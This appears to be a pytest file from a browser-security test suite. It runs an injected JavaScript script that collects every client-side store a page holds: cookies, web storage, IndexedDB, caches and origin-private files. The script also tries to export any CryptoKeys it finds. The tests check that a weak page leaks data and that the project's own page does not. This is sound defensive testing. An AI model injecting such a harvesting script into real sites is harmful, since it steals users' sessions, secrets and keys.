"""A script reads every store that a page has, down to keys and files, and tries to export or use the keys."""

import pytest

from tests.attacks.speech import STORES, said

SCRIPT = said(
    STORES,
    """
  const found = [document.cookie, window.name, JSON.stringify(history.state), location.href];
  for (const store of [localStorage, sessionStorage]) for (const name of Object.keys(store)) found.push(name, store.getItem(name));
  if (globalThis.cookieStore) found.push(JSON.stringify(await cookieStore.getAll().catch(() => [])));
  await stores(async (records) => {
    const [values, keys] = await Promise.all([done(records.getAll()), done(records.getAllKeys())]);
    for (const value of [...values, ...keys]) {
      found.push(evil.write(value, 6));
      for (const key of Object.values(value)) {
        if (!(key instanceof CryptoKey)) continue;
        for (const form of ["raw", "jwk", "pkcs8"]) {
          found.push(await crypto.subtle.exportKey(form, key).then(evil.write, String));
        }
      }
    }
  });
  for (const name of await caches.keys()) {
    const cache = await caches.open(name);
    for (const request of await cache.keys()) found.push(request.url, await (await cache.match(request)).text());
  }
  async function files(folder) {
    for await (const [name, handle] of folder.entries()) {
      if (handle.kind === "directory") await files(handle);
      else found.push(name, await (await handle.getFile()).text());
    }
  }
  if (navigator.storage && navigator.storage.getDirectory) await navigator.storage.getDirectory().then(files).catch(() => {});
  const registrations = navigator.serviceWorker ? await navigator.serviceWorker.getRegistrations() : [];
  return [...found, registrations.length];""",
)


def act(scene):
    scene.subject.sign_in(scene.visitor)
    scene.run(SCRIPT)


def test_page_held(assault, page_held_stored):
    assert assault(page_held_stored).stolen


@pytest.mark.quick
@pytest.mark.standards("ST-01", "ST-06", "ST-07", "ST-08")
def test_ours(assault, ours):
    outcome = assault(ours)
    assert ours.url in outcome.loot, "nothing was read"
    assert outcome.stolen == ()
